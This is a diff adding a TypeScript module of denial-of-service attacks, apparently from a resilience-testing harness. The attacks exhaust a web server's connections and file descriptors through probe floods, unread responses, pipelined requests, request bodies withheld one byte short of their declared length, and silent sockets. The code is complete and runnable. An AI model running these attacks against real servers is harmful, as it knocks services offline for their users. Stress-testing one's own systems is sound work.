@@ -1,0 +1,84 @@
+import type net from 'node:net';
+import type { Attack, Target } from '../attack.ts';
+import { connect } from '../client.ts';
+import type { Pace } from '../pace.ts';
+
+/** Attacks that hold connections and what the server keeps for them. */
+
+/** As many file descriptors as an attacker holds, so that the attack ends by the server's means and not by its own. */
+const openMax = 1_500;
+
+/** Keeps up to so many connections open, in each of which `begin` sent something; those that the server closed are opened again. */
+async function hold(target: Target, pace: Pace, { count, reads = true }: { count: number; reads?: boolean }, bytes: Buffer): Promise<void> {
+  const open = new Set<net.Socket>();
+  for (;;) {
+    await pace.take(bytes.length);
+    if (open.size >= count) continue;
+    const socket = await connect(target, { reads });
+    open.add(socket);
+    socket.once('close', () => open.delete(socket));
+    if (socket.destroyed) open.delete(socket);
+    else socket.write(bytes);
+  }
+}
+
+const get = (path: string) => `GET ${path} HTTP/1.1\r\nHost: x\r\n\r\n`;
+
+/** A body that says to be so long, and stops a byte before its end. */
+const almostWhole = (path: string, length: number, headers = '') =>
+  Buffer.concat([
+    Buffer.from(`POST ${path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n${headers}Content-Length: ${length}\r\n\r\n`),
+    Buffer.alloc(length - 1, ' '),
+  ]);
+
+export const connections: readonly Attack[] = [
+  {
+    name: 'probes',
+    says: 'readiness, asked for over 1,500 connections',
+    async run(target, pace) {
+      const open: net.Socket[] = [];
+      for (let number = 0; ; number++) {
+        await pace.take();
+        const index = number % openMax;
+        if (!open[index] || open[index].destroyed) open[index] = await connect(target);
+        open[index].write(get('/readyz'));
+      }
+    },
+  },
+  {
+    name: 'unread-image',
+    says: 'a large image, asked for on 300 connections and never read',
+    run: (target, pace) => hold(target, pace, { count: 300, reads: false }, Buffer.from(get(target.imagePath))),
+  },
+  {
+    name: 'pipelined',
+    says: '200 requests at once on each connection, whose answers are never read',
+    run: (target, pace) => hold(target, pace, { count: 300, reads: false }, Buffer.from(get('/api/0/openapi.json').repeat(200))),
+  },
+  {
+    name: 'bodies-less-one',
+    says: 'bodies of logins that lack their last byte',
+    run: (target, pace) => hold(target, pace, { count: openMax }, almostWhole('/api/0/auth/login/', 16_000)),
+  },
+  {
+    name: 'large-bodies-less-one',
+    says: 'bodies of a megabyte that lack their last byte, by a caller without rights',
+    run: (target, pace) =>
+      hold(
+        target,
+        pace,
+        { count: openMax },
+        almostWhole('/api/0/organizations/', 1024 * 1024 - 1, `Authorization: Bearer ${target.account.token}\r\n`),
+      ),
+  },
+  {
+    name: 'silent',
+    says: 'connections that send nothing, or half of a request line',
+    async run(target, pace) {
+      await Promise.all([
+        hold(target, pace, { count: openMax / 2 }, Buffer.alloc(0)),
+        hold(target, pace, { count: openMax / 2 }, Buffer.from('GET /api/0/ HTTP/1.1\r\nHost: ')),
+      ]);
+    },
+  },
+];
